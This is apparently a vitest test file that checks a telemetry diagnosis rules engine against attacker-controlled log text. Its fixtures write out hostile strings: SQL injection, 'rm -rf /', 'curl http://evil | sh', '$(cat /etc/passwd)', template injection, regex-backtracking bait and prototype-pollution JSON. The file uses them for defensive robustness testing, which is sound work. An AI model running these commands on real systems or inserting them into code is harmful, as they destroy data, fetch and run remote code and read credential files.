// Telemetry is attacker-influenced: anything a client logs reaches the rules. These inputs
// must evaluate to an ordinary diagnosis, never throw, and never be interpreted as code.
import { describe, expect, it } from 'vitest';
import { evaluateRules, loadRules, type DiagnosisInput } from '../../../src/diagnose/rules/index.ts';
import { input } from './helpers.ts';

const rules = loadRules();

function diagnoseAll(partial: Partial<DiagnosisInput>) {
  // The same text in every string slot the rules read.
  const text = partial.message ?? '';
  return evaluateRules(
    rules,
    input({
      exceptionMessage: text,
      exceptionType: text,
      attributes: { 'db.system': text, 'peer.service': text, 'server.address': text, 'http.response.status_code': text },
      ...partial,
    }),
  );
}

const hostile: [string, string][] = [
  ['SQL injection', "'; DROP TABLE users; -- OR 1=1 UNION SELECT password FROM accounts"],
  ['shell metacharacters', 'connection failed; rm -rf / && curl http://evil | sh `id`'],
  ['command substitution', '$(cat /etc/passwd) ${process.exit(1)} #{7*7} {{7*7}}'],
  ['expression syntax', 'message == "x" or true) and not (cpu > 0'],
  ['regex metacharacters', '(a+)+$ .* [^] \\1 (?=x) /g'],
  ['prototype keys', '__proto__ constructor prototype toString hasOwnProperty'],
  ['invalid UTF-8 replacement chars', 'conn\uFFFD\uFFFDection \uD800 lone surrogate \u0000 nul \u202E rtl'],
  ['json-looking', '{"__proto__": {"polluted": true}, "category": "AUTHENTICATION"}'],
];

describe('hostile input', () => {
  it.each(hostile)('%s evaluates without throwing', (_name, text) => {
    const d = diagnoseAll({ message: text });
    expect(typeof d.explanation).toBe('string');
    expect(['UNKNOWN', 'DATABASE', 'AUTHENTICATION', 'API', 'PERFORMANCE', 'INTEGRATION', 'RESOURCE', 'CONFIGURATION', 'NETWORK']).toContain(d.category);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('treats injected text as data: SQL text does not become a database diagnosis by syntax alone', () => {
    expect(evaluateRules(rules, input({ message: hostile[0][1] })).category).toBe('UNKNOWN');
  });

  it('handles a 1 MB message, with the signal at the start and at the end', () => {
    const filler = 'x'.repeat(1 << 20);
    expect(diagnoseAll({ message: filler }).ruleId).not.toBeUndefined();
    expect(evaluateRules(rules, input({ message: 'ENOSPC: no space left on device ' + filler })).ruleId).toBe('disk-full');
    // Beyond the regex window, substring rules still see the text.
    expect(evaluateRules(rules, input({ message: filler + ' connection lost' })).ruleId).toBe('db-connection');
  });

  it('survives backtracking bait against every default regex', () => {
    const baits = ['a'.repeat(50_000), 'connection '.repeat(20_000), '\t'.repeat(100_000) + '!', 'CERT_'.repeat(10_000)];
    for (const message of baits) {
      expect(() => diagnoseAll({ message })).not.toThrow();
    }
  });

  it('tolerates a huge number of attributes', () => {
    const attributes: Record<string, string> = {};
    for (let i = 0; i < 50_000; i++) attributes[`k${i}`] = '; rm -rf /';
    expect(evaluateRules(rules, input({ attributes })).category).toBe('UNKNOWN');
  });

  it('tolerates non-finite and non-number metrics', () => {
    const metrics = { response_time: Number.POSITIVE_INFINITY, cpu: Number.NaN, memory: '0.99' } as unknown as Record<string, number>;
    expect(evaluateRules(rules, input({ metrics })).category).toBe('UNKNOWN');
  });

  it('survives inputs with throwing getters', () => {
    const evil = input();
    Object.defineProperty(evil, 'message', {
      get() {
        throw new Error('boom');
      },
    });
    expect(evaluateRules(rules, evil).category).toBe('UNKNOWN');
    expect(evaluateRules(rules, null as never).category).toBe('UNKNOWN');
  });
});
